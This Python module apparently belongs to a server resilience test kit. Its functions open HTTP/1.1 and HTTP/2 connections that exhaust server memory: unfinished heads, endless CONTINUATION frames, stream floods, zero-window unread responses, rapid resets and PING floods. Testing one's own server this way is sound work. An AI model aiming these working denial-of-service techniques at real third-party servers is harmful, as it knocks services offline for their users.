"""Connections that make a server hold memory: each kind is a function that opens one of them.

Frames are written by hand, so that nothing of a library's keeps an attack from being one. Every function sends
until the server takes no more for a moment or has closed, and leaves the connection open.
"""

import select
import struct

from kit.raw import headers_for, open_socket

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE = 4
# More streams and bytes than any server that means well lets one connection have.
STREAMS = 300
# Fields beside those that every request has; HTTP/1 takes a hundred in all.
FIELDS = 80
FRAME_BYTES = 16_384
QUIET_S = 0.3


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _number(value, prefix_bits, first=0):
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def field(name, value):
    """A literal header field that is not indexed."""
    name, value = name.encode(), value.encode()
    return b"\0" + _number(len(name), 7) + name + _number(len(value), 7) + value


def head(method="POST", path="/", headers=(), fill=0):
    fields = [(":method", method), (":path", path), (":scheme", "http"), (":authority", "localhost"), *headers]
    block = b"".join(field(name.lower(), value) for name, value in fields)
    return block + _fields(fill, FIELDS)


def _fields(fill, count):
    """Header fields that take up `fill` bytes as HTTP/2 counts them."""
    length = fill // count - 38
    return b"".join(field(f"x-{i:04}", "v" * length) for i in range(count)) if length > 0 else b""


def kinesis(operation="PutRecord", **more):
    return list(headers_for(operation, **more).items())


class Hostile:
    """A connection that sends what it is told for as long as that is taken, and reads as much as it has to."""

    def __init__(self, server, buffer_bytes=None):
        self.sock = open_socket(server, buffer_bytes=buffer_bytes)
        self.sock.setblocking(False)
        self.closed = False
        self.received = b""

    def send(self, payload, reads=True):
        """How much of it was taken."""
        sent = 0
        while sent < len(payload) and not self.closed:
            readable, writable, _ = select.select([self.sock] if reads else [], [self.sock], [], QUIET_S)
            if not readable and not writable:
                break
            try:
                if readable:
                    self._read()
                if writable:
                    sent += self.sock.send(payload[sent:sent + (1 << 18)])
            except BlockingIOError:
                continue
            except OSError:
                self.closed = True
        return sent

    def _read(self):
        got = self.sock.recv(1 << 18)
        self.received = (self.received + got)[-4096:]
        self.closed = self.closed or not got

    def settle(self, mark=b"settled!"):
        """Until what was sent before has been read: frames are answered in their order."""
        self.send(frame(PING, 0, 0, mark))
        pong = frame(PING, ACK, 0, mark)
        while not self.closed and pong not in self.received:
            if not select.select([self.sock], [], [], 2)[0]:
                return
            try:
                self._read()
            except OSError:
                self.closed = True

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.sock.close()


class Hostile2(Hostile):
    """One of HTTP/2 that keeps to what the server has allowed, and uses all of it."""

    def __init__(self, server, window=65_535):
        super().__init__(server)
        self.window, self.stream_window, self.streams, self.head_bytes = 65_535, 65_535, STREAMS, 1 << 20
        settings = struct.pack(">HI", INITIAL_WINDOW_SIZE, window)
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK, 0))
        self.settle(b"greeting")
        rest = self.received
        while len(rest) >= 9:
            length, kind, flags = int.from_bytes(rest[:3]), rest[3], rest[4]
            payload, rest = rest[9:9 + length], rest[9 + length:]
            if kind == SETTINGS and not flags & ACK:
                told = dict(struct.iter_unpack(">HI", payload))
                self.streams = min(self.streams, told.get(3, STREAMS))
                self.stream_window = told.get(4, self.stream_window)
                self.head_bytes = told.get(6, self.head_bytes)
            elif kind == WINDOW_UPDATE:
                self.window += int.from_bytes(payload)
        self.window = min(self.window, 32 << 20)

    def numbers(self):
        return range(1, 2 * self.streams, 2)

    def head(self, share=1.0, **options):
        """A head as large as one may be, or this share of that."""
        return head(fill=int(self.head_bytes * share) - 1_000, **options)


_http2 = Hostile2


def idle_http1(server):
    """Says nothing at all."""
    return Hostile(server)


def idle_http2(server):
    """Says that it speaks HTTP/2, and no more."""
    connection = _http2(server)
    connection.settle()
    return connection


def unfinished_head(server):
    """HTTP/1.1: a head that does not end."""
    connection = Hostile(server)
    connection.send(b"POST / HTTP/1.1\r\nHost: localhost\r\n")
    for i in range(30):
        connection.send(b"x-%04d: " % i + b"v" * 2_000 + b"\r\n")
    return connection


def unfinished_header_block(server):
    """HTTP/2: a header block that does not end."""
    connection = _http2(server)
    connection.send(frame(HEADERS, 0, 1, head(headers=kinesis(), fill=3_000)))
    for _ in range(10):
        connection.send(frame(CONTINUATION, 0, 1, field("x-more", "v" * 2_000)))
    return connection


def unfinished_frame(server):
    """HTTP/2: a frame that does not end, as large as one may be."""
    connection = _http2(server)
    connection.send(frame(DATA, 0, 1, b"\0" * FRAME_BYTES)[:-1])
    return connection


def whole_head(number, block):
    """A header block in as many frames as it takes."""
    pieces = [block[at:at + FRAME_BYTES] for at in range(0, len(block), FRAME_BYTES)]
    kinds = [HEADERS] + [CONTINUATION] * (len(pieces) - 1)
    flags = [0] * (len(pieces) - 1) + [END_HEADERS]
    return b"".join(frame(k, f, number, p) for k, f, p in zip(kinds, flags, pieces, strict=True))


def _begin(connection, block):
    connection.send(b"".join(
        whole_head(number, block) + frame(DATA, 0, number, b"{") for number in connection.numbers()
    ))
    connection.settle()
    return connection


def one_byte_bodies(server):
    """HTTP/2: as many streams as there may be, each with a large head and one byte of a body that goes on."""
    connection = _http2(server)
    return _begin(connection, connection.head(headers=kinesis()))


def many_fields(server):
    """The same with as many fields as a head has room for: short ones take more memory than long ones."""
    connection = _http2(server)
    room = connection.head_bytes - 1_000
    return _begin(connection, head(headers=kinesis()) + _fields(room, room // 40))


def full_windows(server):
    """HTTP/2: streams that each send a body's beginning, as much as all the windows take."""
    connection = _http2(server)
    block = head(headers=kinesis())
    connection.send(b"".join(
        frame(HEADERS, END_HEADERS, number, block) + frame(DATA, 0, number, b"{") for number in connection.numbers()
    ))
    left = connection.window - connection.streams
    piece = b" " * (FRAME_BYTES - 1)
    for _ in range(connection.stream_window // FRAME_BYTES):
        numbers = list(connection.numbers())[:left // len(piece)]
        connection.send(b"".join(frame(DATA, 0, number, piece) for number in numbers))
        left -= len(piece) * len(numbers)
    connection.settle()
    return connection


def _unread(server, block, body=b""):
    connection = _http2(server, window=0)
    end = 0 if body else END_STREAM
    connection.send(b"".join(
        frame(HEADERS, END_HEADERS | end, number, block) + (frame(DATA, END_STREAM, number, body) if body else b"")
        for number in connection.numbers()
    ))
    connection.settle()
    return connection


def unread_metrics(server):
    """HTTP/2: asks for /metrics with windows that let no answer through."""
    return _unread(server, head("GET", "/metrics"))


def unread_errors(server):
    """The same with refusals that repeat what was sent."""
    return _unread(server, head(headers=kinesis("DescribeStream")), b'{"StreamName":"' + b"!" * 15_000 + b'"}')


def unread_preflights(server):
    """The same with preflights, whose answers repeat headers of the request."""
    asked = [("access-control-request-headers", "x" * 12_000)]
    return _unread(server, head("OPTIONS", headers=asked))


def resets(server):
    """HTTP/2: streams that are opened and reset at once."""
    connection = _http2(server)
    block = connection.head(headers=kinesis())
    reset = struct.pack(">I", 8)
    for first in range(1, 40 * STREAMS, 200):
        connection.send(b"".join(
            whole_head(number, block) + frame(RST_STREAM, 0, number, reset) for number in range(first, first + 200, 2)
        ))
    connection.settle()
    return connection


def pings_unread(server):
    """HTTP/2: asks to be answered and takes no answer."""
    connection = _http2(server)
    connection.send(frame(PING, 0, 0, b"12345678") * 20_000, reads=False)
    return connection


SILENT_KINDS = [
    kind.__name__
    for kind in (idle_http1, idle_http2, unfinished_head, unfinished_header_block, unfinished_frame, pings_unread)
]
KINDS = {
    kind.__name__: kind for kind in (
        idle_http1, idle_http2, unfinished_head, unfinished_header_block, unfinished_frame, pings_unread,
        one_byte_bodies, many_fields, full_windows, unread_metrics, unread_errors, unread_preflights, resets,
    )
}
